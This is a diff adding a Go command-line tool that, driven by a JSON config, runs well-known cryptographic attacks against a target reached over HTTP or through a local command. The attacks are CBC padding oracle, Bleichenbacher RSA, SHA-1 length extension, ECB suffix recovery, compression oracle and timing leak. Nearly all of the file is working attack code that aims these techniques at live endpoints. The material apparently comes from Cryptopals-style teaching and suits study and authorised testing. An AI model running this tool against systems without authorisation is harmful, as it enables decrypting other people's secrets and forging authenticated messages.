@@ -0,0 +1,286 @@
+// Command cryptopals runs one of the attacks of package attacks against a
+// target, described by a JSON config file like
+//
+//	{
+//		"attack": "cbc-padding-oracle",
+//		"oracle": {
+//			"url": "https://target.example/decrypt?c={{query}}",
+//			"encoding": "hex",
+//			"accept": "^OK"
+//		},
+//		"ciphertext": "2a1f...9c"
+//	}
+//
+// The oracle is either an HTTP request or a command, in which {{query}} is
+// replaced with the encoded query. See the Config type for all the fields.
+package main
+
+import (
+	"crypto/rsa"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"log"
+	"math/big"
+	"net/http"
+	"os"
+	"regexp"
+	"strconv"
+	"time"
+
+	"filippo.io/mostly-harmless/cryptopals/attacks"
+)
+
+// Config selects an attack and its inputs. Binary inputs are hex encoded.
+type Config struct {
+	// Attack is one of ecb-suffix, ecb-suffix-with-prefix, cbc-padding-oracle,
+	// bb98, sha1-length-extension, compression-oracle, and timing-leak.
+	Attack string       `json:"attack"`
+	Oracle OracleConfig `json:"oracle"`
+
+	// Parallelism, Retries and Votes configure how the oracle is queried. See
+	// attacks.Options.
+	Parallelism int `json:"parallelism"`
+	Retries     int `json:"retries"`
+	Votes       int `json:"votes"`
+
+	// Ciphertext is the input of cbc-padding-oracle, with the IV first, and
+	// of bb98.
+	Ciphertext string `json:"ciphertext"`
+
+	// N and E are the RSA public key for bb98, with N in hex.
+	N string `json:"n"`
+	E int    `json:"e"`
+
+	// MAC, Message and Extension are the inputs of sha1-length-extension.
+	// Message and Extension are strings. If KeyLength is zero and an oracle
+	// is configured, the key lengths from 0 to 64 are tried, by submitting
+	// each forged MAC followed by its message to the oracle.
+	MAC       string `json:"mac"`
+	Message   string `json:"message"`
+	Extension string `json:"extension"`
+	KeyLength int    `json:"key_length"`
+
+	// Known, Length and Alphabet are the inputs of compression-oracle: the
+	// known start of the secret, how many bytes of it to recover, and which
+	// bytes to try. Known and Alphabet are strings. Length is also the size
+	// of the value recovered by timing-leak.
+	Known    string `json:"known"`
+	Length   int    `json:"length"`
+	Alphabet string `json:"alphabet"`
+
+	// Timing configures timing-leak, which requires an HTTP oracle. The last
+	// byte is found by checking whether the oracle accepts the query.
+	Timing TimingConfig `json:"timing"`
+}
+
+// TimingConfig describes an attacks.Timing.
+type TimingConfig struct {
+	WarmUp     int `json:"warm_up"`
+	MinSamples int `json:"min_samples"`
+	MaxSamples int `json:"max_samples"`
+
+	// Test is box (the default) or median.
+	Test       string  `json:"test"`
+	Low        float64 `json:"low"`
+	High       float64 `json:"high"`
+	Confidence float64 `json:"confidence"`
+}
+
+// OracleConfig describes an attacks.HTTPOracle, if URL is set, or an
+// attacks.CommandOracle, if Command is set.
+type OracleConfig struct {
+	URL     string            `json:"url"`
+	Method  string            `json:"method"`
+	Headers map[string]string `json:"headers"`
+	Body    string            `json:"body"`
+	Timeout string            `json:"timeout"`
+
+	Command []string `json:"command"`
+
+	// Encoding is hex, base64 or raw.
+	Encoding string `json:"encoding"`
+	// Accept is a regular expression that the response must match for the
+	// query to be considered valid, instead of checking the status.
+	Accept string `json:"accept"`
+}
+
+func main() {
+	configFlag := flag.String("config", "cryptopals.json", "The path of the JSON config file")
+	flag.Parse()
+
+	data, err := ioutil.ReadFile(*configFlag)
+	if err != nil {
+		log.Fatalf("Failed to read config: %v", err)
+	}
+	var c Config
+	if err := json.Unmarshal(data, &c); err != nil {
+		log.Fatalf("Failed to parse config: %v", err)
+	}
+	if err := run(&c, os.Stdout, os.Stderr); err != nil {
+		log.Fatalf("Attack failed: %v", err)
+	}
+}
+
+type oracle interface {
+	Encrypt(msg []byte) ([]byte, error)
+	IsValid(msg []byte) (bool, error)
+}
+
+func newOracle(c *OracleConfig) (oracle, error) {
+	var accept *regexp.Regexp
+	if c.Accept != "" {
+		var err error
+		accept, err = regexp.Compile(c.Accept)
+		if err != nil {
+			return nil, fmt.Errorf("invalid accept: %v", err)
+		}
+	}
+	switch {
+	case c.URL != "" && len(c.Command) > 0:
+		return nil, errors.New("oracle has both url and command")
+	case c.URL != "":
+		client := &http.Client{}
+		if c.Timeout != "" {
+			d, err := time.ParseDuration(c.Timeout)
+			if err != nil {
+				return nil, fmt.Errorf("invalid timeout: %v", err)
+			}
+			client.Timeout = d
+		}
+		header := make(http.Header)
+		for k, v := range c.Headers {
+			header.Set(k, v)
+		}
+		return &attacks.HTTPOracle{Client: client, Method: c.Method, URL: c.URL, Body: c.Body,
+			Header: header, Encoding: attacks.Encoding(c.Encoding), Accept: accept}, nil
+	case len(c.Command) > 0:
+		return &attacks.CommandOracle{Args: c.Command,
+			Encoding: attacks.Encoding(c.Encoding), Accept: accept}, nil
+	}
+	return nil, nil
+}
+
+// printProgress rewrites the current line of w with b, replacing the
+// characters that would mess up the terminal.
+func printProgress(w io.Writer, b []byte) {
+	var res []rune
+	for _, r := range string(b) {
+		if strconv.IsPrint(r) && r != '\n' && r != '\r' {
+			res = append(res, r)
+		} else {
+			res = append(res, '�')
+		}
+	}
+	fmt.Fprintf(w, "\r\x1b[K%s", string(res))
+}
+
+// run executes the attack described by c, writes its result to w, and, if
+// status is not nil, its progress to status.
+func run(c *Config, w, status io.Writer) error {
+	o, err := newOracle(&c.Oracle)
+	if err != nil {
+		return err
+	}
+	if o == nil && c.Attack != "sha1-length-extension" {
+		return errors.New("no oracle configured")
+	}
+
+	opts := &attacks.Options{Parallelism: c.Parallelism, Retries: c.Retries, Votes: c.Votes}
+	if status != nil {
+		opts.Progress = func(b []byte) { printProgress(status, b) }
+		defer fmt.Fprintln(status)
+	}
+
+	var res []byte
+	switch c.Attack {
+	case "ecb-suffix":
+		res, err = attacks.RecoverECBSuffix(o.Encrypt, opts)
+	case "ecb-suffix-with-prefix":
+		res, err = attacks.RecoverECBSuffixWithPrefix(o.Encrypt, opts)
+	case "cbc-padding-oracle":
+		ct, decErr := hex.DecodeString(c.Ciphertext)
+		if decErr != nil {
+			return fmt.Errorf("invalid ciphertext: %v", decErr)
+		}
+		res, err = attacks.AttackCBCPaddingOracle(ct, o.IsValid, opts)
+	case "bb98":
+		ct, decErr := hex.DecodeString(c.Ciphertext)
+		if decErr != nil {
+			return fmt.Errorf("invalid ciphertext: %v", decErr)
+		}
+		N, ok := new(big.Int).SetString(c.N, 16)
+		if !ok || c.E == 0 {
+			return errors.New("invalid public key")
+		}
+		res, err = attacks.AttackBB98(&rsa.PublicKey{N: N, E: c.E}, ct, o.IsValid, opts)
+	case "sha1-length-extension":
+		return extendSHA1(c, o, w)
+	case "timing-leak":
+		httpOracle, ok := o.(*attacks.HTTPOracle)
+		if !ok {
+			return errors.New("timing-leak requires an HTTP oracle")
+		}
+		t := &attacks.Timing{WarmUp: c.Timing.WarmUp, MinSamples: c.Timing.MinSamples,
+			MaxSamples: c.Timing.MaxSamples, Low: c.Timing.Low, High: c.Timing.High,
+			Confidence: c.Timing.Confidence}
+		if status != nil {
+			t.Progress = func(b []byte) { fmt.Fprintf(status, "\r%x", b) }
+		}
+		switch c.Timing.Test {
+		case "box", "":
+			t.Test = attacks.BoxTest
+		case "median":
+			t.Test = attacks.MedianTest
+		default:
+			return fmt.Errorf("unknown timing test %q", c.Timing.Test)
+		}
+		res, err = attacks.AttackTimingLeak(httpOracle.Time, httpOracle.IsValid, c.Length, t)
+	case "compression-oracle":
+		var alphabet []byte
+		if c.Alphabet != "" {
+			alphabet = []byte(c.Alphabet)
+		}
+		res, err = attacks.AttackCompressionOracle(o.Encrypt, []byte(c.Known), c.Length, alphabet, opts)
+	default:
+		return fmt.Errorf("unknown attack %q", c.Attack)
+	}
+	if err != nil {
+		return err
+	}
+	fmt.Fprintf(w, "%q\n", res)
+	return nil
+}
+
+func extendSHA1(c *Config, o oracle, w io.Writer) error {
+	mac, err := hex.DecodeString(c.MAC)
+	if err != nil {
+		return fmt.Errorf("invalid mac: %v", err)
+	}
+	minLen, maxLen := c.KeyLength, c.KeyLength
+	if c.KeyLength == 0 && o != nil {
+		maxLen = 64
+	}
+	for keyLen := minLen; keyLen <= maxLen; keyLen++ {
+		newMAC, newMsg, err := attacks.ExtendSHA1(mac, []byte(c.Message), []byte(c.Extension), keyLen)
+		if err != nil {
+			return err
+		}
+		if o != nil {
+			ok, err := o.IsValid(append(newMAC, newMsg...))
+			if err != nil {
+				return err
+			}
+			if !ok {
+				continue
+			}
+		}
+		fmt.Fprintf(w, "key length: %d\nmac: %x\nmessage: %q\n", keyLen, newMAC, newMsg)
+		return nil
+	}
+	return errors.New("no forgery was accepted")
+}